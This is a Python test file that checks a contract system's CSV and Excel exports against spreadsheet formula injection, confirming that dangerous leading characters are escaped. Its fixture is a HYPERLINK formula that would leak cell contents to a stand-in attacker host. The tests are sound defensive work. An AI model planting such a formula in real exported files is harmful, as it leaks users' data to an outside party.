"""A name that a spreadsheet would take for a formula stays a name, in every shape of export."""

import csv
import io
import zipfile

import pytest

from ryddig.reports.cells import safe_text
from tests.attacks.browsing import logged_in
from tests.cast import Cast, contract

EVIL = '=HYPERLINK("https://evil.example?x="&A1;"klikk")'


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r"])
def test_every_sign_that_begins_a_formula_is_held_back(sign: str) -> None:
    assert safe_text(f"{sign}1+1").startswith("'")


def test_the_portfolio_as_csv(cast: Cast) -> None:
    contract(cast, title=EVIL)
    answer = logged_in(cast, cast.lise).get("/contracts/export.csv?state=all")
    cells = [cell for row in csv.reader(io.StringIO(answer.content.decode("utf-8-sig")), delimiter=";") for cell in row]
    assert f"'{EVIL}" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]


def test_the_portfolio_as_a_workbook_has_no_formula(cast: Cast) -> None:
    contract(cast, title=EVIL)
    answer = logged_in(cast, cast.lise).get("/contracts/export.xlsx?state=all")
    with zipfile.ZipFile(io.BytesIO(answer.content)) as archive:
        sheets = b"".join(archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/"))
    assert b"<f>" not in sheets
